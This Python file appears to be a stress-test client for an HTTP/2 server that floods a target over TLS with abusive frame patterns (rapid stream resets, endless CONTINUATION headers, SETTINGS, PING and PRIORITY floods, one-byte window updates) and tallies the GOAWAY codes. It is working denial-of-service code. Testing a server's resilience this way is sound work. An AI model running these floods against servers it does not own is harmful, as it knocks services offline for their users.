# SPDX-License-Identifier: BSD-2-Clause
#
# A client that floods: /usr/bin/python3 flood.py KIND HOST ADDRESS CAFILE SECONDS. It sends what KIND says
# as fast as it can and comes again when it was thrown out; at the end it prints how often, how many
# bytes, and the codes of the GOAWAYs. A program of its own, so that it slows down only whom it floods.

import json
import os
import socket
import ssl
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from http2_frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING,  # noqa: E402
                          PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, fields, frame, request)

PIECE = 60000


def number(value):
    return struct.pack("!I", value)


class Flood:
    """Makes the next piece of a connection's flood; `first` is what it begins with."""

    def __init__(self, kind, host):
        self.host, self.stream = host, 1
        self.make = getattr(self, kind)
        self.get = request(host, "/logo.png")
        self.post = request(host, "/echo", "POST")
        self.bad = fields((":method", "GET"))
        self.first = PREFACE + frame(SETTINGS, 0, 0, b"\0\4" + number(0) if kind == "windows" else b"") \
            + frame(SETTINGS, 1, 0)
        if kind in ("data", "priority", "windows"):
            self.first += frame(HEADERS, END_HEADERS, 1, self.post)
        if kind == "closed":
            self.first += frame(HEADERS, END_HEADERS, 1, self.post) + frame(RST_STREAM, 0, 1, number(8))

    def piece(self):
        out = b""
        while len(out) < PIECE:
            out += self.make()
        return out

    def reset(self):
        self.stream += 2
        return frame(HEADERS, END_HEADERS | END_STREAM, self.stream, self.get) \
            + frame(RST_STREAM, 0, self.stream, number(8))

    def malformed(self):
        self.stream += 2
        return frame(HEADERS, END_HEADERS | END_STREAM, self.stream, self.bad)

    def continuation(self):
        """A head that never ends, of fields that cost nothing to send: the static table's."""
        self.stream += 2
        if self.stream == 3:
            return frame(HEADERS, 0, 3, self.get)
        return frame(CONTINUATION, 0, 3, b"\x90" * 16000)

    def closed(self):
        """Heads on a stream that is over, each full of fields."""
        return frame(HEADERS, END_HEADERS | END_STREAM, 1, self.get + b"\x90" * 15000)

    def settings(self):
        return frame(SETTINGS, 0, 0, b"\0\4" + number(70000)) * 100

    def ping(self):
        return frame(PING, 0, 0, b"12345678") * 100

    def data(self):
        return frame(DATA, 0, 1) * 100

    def priority(self):
        return frame(PRIORITY, 0, 1, number(0) + b"\x10") * 100

    def windows(self):
        """As many streams as there may be, whose bodies go out byte by byte."""
        self.stream += 2
        if self.stream < 180:
            return frame(HEADERS, END_HEADERS | END_STREAM, self.stream, self.get)
        return b"".join(frame(WINDOW_UPDATE, 0, stream, number(1)) for stream in range(3, 180, 2))


def one(kind, host, address, context, end, told):
    sock = socket.create_connection((address, 443), 5)
    with context.wrap_socket(sock, server_hostname=host) as tls:
        told["connections"] += 1
        flood = Flood(kind, host)
        out = flood.first + flood.piece()
        while time.monotonic() < end:
            tls.settimeout(2)
            tls.sendall(out)
            told["bytes"] += len(out)
            tls.setblocking(False)
            try:
                while data := tls.recv(65536):
                    take(data, told)
                return
            except ssl.SSLWantReadError:
                pass
            out = flood.piece()


def take(data, told):
    """Frames are not followed: a GOAWAY comes last, and by itself."""
    if data[3:4] == bytes([GOAWAY]) and len(data) >= 17:
        code = struct.unpack_from("!I", data, 13)[0]
        told["goaway"][code] = told["goaway"].get(code, 0) + 1


def main():
    kind, host, address, cafile, seconds = sys.argv[1:]
    context = ssl.create_default_context(cafile=cafile)
    context.set_alpn_protocols(["h2"])
    told = {"connections": 0, "bytes": 0, "goaway": {}, "errors": 0}
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        try:
            one(kind, host, address, context, end, told)
        except OSError:
            told["errors"] += 1
        time.sleep(0.02)
    print(json.dumps(told))


if __name__ == "__main__":
    main()
